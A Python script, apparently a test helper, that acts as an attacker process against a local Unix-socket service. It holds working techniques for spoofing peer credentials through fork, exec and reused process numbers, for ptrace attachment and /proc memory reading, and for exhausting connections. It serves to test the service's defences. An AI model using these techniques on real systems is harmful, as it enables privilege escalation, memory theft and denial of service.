"""What an attacker's process does: intruder.py ATTACK ARGUMENTS, as the user it attacks from. Prints what it gets."""

import array
import ctypes
import os
import socket
import subprocess
import sys
import time


def connect(path):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


def ask(connection, frame):
    """Sends a recorded request and prints the answer's bytes."""
    connection.settimeout(20)
    try:
        connection.sendall(frame)
        answer = connection.recv(65536)
    except OSError as error:
        return print(f"refused: {error}")
    sys.stdout.write(answer.decode("utf-8", "replace"))


def frame_of(path):
    with open(path, "rb") as file:
        return file.read()


def connect_in_child(path, go_on):
    """Has a child connect, keeps a copy of its connection, and lets the child go on; gives both."""
    ours, theirs = socket.socketpair()
    child = os.fork()
    if child == 0:
        connection = connect(path)
        socket.send_fds(theirs, [b"x"], [connection.fileno()])
        go_on(ours)
        os._exit(0)
    _, descriptors, _, _ = socket.recv_fds(ours, 1, 1)
    return child, socket.socket(fileno=descriptors[0])


def exec_after_connect(path, frame, program):
    """The child connects and becomes the program that may; its connection is used by its parent."""
    reader, writer = os.pipe()

    def become(_):
        os.dup2(reader, 0)
        os.execv(program, [program, "-i"])

    child, connection = connect_in_child(path, become)
    for _ in range(500):
        if os.readlink(f"/proc/{child}/exe") == program if os.access(f"/proc/{child}/exe", os.R_OK) else False:
            break
        time.sleep(0.01)
    time.sleep(0.1)
    ask(connection, frame_of(frame))
    os.close(writer)
    os.kill(child, 9)
    os.waitpid(child, 0)


def stepping_stone(path, frame, program, report):
    """Has a child keep a connection that it made with the mark of one anchored program, and becomes another one."""
    if os.fork():
        os._exit(0)
    connection = connect(path)
    reader, _ = os.pipe()
    process = os.getpid()
    if os.fork() == 0:
        for _ in range(500):
            with open(f"/proc/{process}/comm") as name:
                if name.read().strip() == os.path.basename(program):
                    break
            time.sleep(0.01)
        time.sleep(0.2)
        sys.stdout = open(report, "w", errors="replace")
        ask(connection, frame_of(frame))
        sys.stdout.flush()
        os.kill(process, 9)
        os._exit(0)
    os.dup2(reader, 0)
    os.execv(program, [program, "-i"])


def orphaned_connection(path, frame, ready):
    """The child connects and ends; whoever reuses its number is to be taken for it. Waits for a word in between."""
    child, connection = connect_in_child(path, lambda _: None)
    os.waitpid(child, 0)
    print(child, flush=True)
    sys.stdin.readline()
    ask(connection, frame_of(frame))


def handed_socket(path, frame):
    """A connection that comes as a descriptor from the process that may."""
    ask(socket.socket(fileno=int(path)), frame_of(frame))


def trace(process):
    """Attaches to a process and reads a word of its memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    process = int(process)
    if libc.ptrace(16, process, None, None) != 0:
        return print(f"refused: {os.strerror(ctypes.get_errno())}")
    os.waitpid(process, 0)
    print("attached")
    libc.ptrace(17, process, None, None)


def memory(process):
    """Opens a process's memory and reads from its first mapping."""
    try:
        with open(f"/proc/{process}/maps") as maps:
            start = int(maps.readline().split("-")[0], 16)
        with open(f"/proc/{process}/mem", "rb", 0) as file:
            file.seek(start)
            print("attached" if file.read(4) == b"\x7fELF" else "read")
    except (OSError, ValueError) as error:
        print(f"refused: {error}")


def open_memory(process):
    """Opens a process's memory."""
    if "0000000000080000" not in open("/proc/self/status").read():
        return print("has not the capability")
    try:
        with open(f"/proc/{process}/mem", "rb", 0):
            print("attached")
    except OSError as error:
        print(f"refused: {error}")


def flood(path, count):
    """Opens as many connections as it gets and holds them until a line comes."""
    kept = []
    for _ in range(int(count)):
        try:
            connection = socket.socket(socket.AF_UNIX)
            connection.settimeout(1)
            connection.connect(path)
            kept.append(connection)
        except OSError:
            break
    print(len(kept), flush=True)
    sys.stdin.readline()


def hurry(path, count, word=""):
    """Connects again and again, says a word, and keeps what it gets until a line comes."""
    kept = []
    for _ in range(int(count)):
        try:
            connection = socket.socket(socket.AF_UNIX)
            connection.settimeout(0.2)
            connection.connect(path)
            connection.sendall(bytes.fromhex(word))
            if not word:
                kept.append(connection)
        except OSError:
            pass
    print(len(kept), flush=True)
    sys.stdin.readline()


def hog(path, count, size, processes="1"):
    """Sends the beginnings of frames and keeps the connections until a line comes; each process has its part of them."""
    head = (2**20 - 64).to_bytes(4, "little") + bytes([1, 1, 0, 0]) + (1).to_bytes(4, "little") + (60000).to_bytes(4, "little")
    reader, writer = os.pipe()
    ours, theirs = os.pipe()
    for _ in range(int(processes)):
        if os.fork() == 0:
            os.close(ours)
            os.close(writer)
            kept = []
            for _ in range(int(count) // int(processes)):
                connection = connect(path)
                connection.settimeout(5)
                try:
                    connection.sendall(head + bytes(int(size)))
                except OSError:
                    break
                kept.append(connection)
                os.write(theirs, b"x")
            os.close(theirs)
            os.read(reader, 1)
            os._exit(0)
    os.close(theirs)
    print(len(os.fdopen(ours, "rb").read()), flush=True)
    sys.stdin.readline()


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
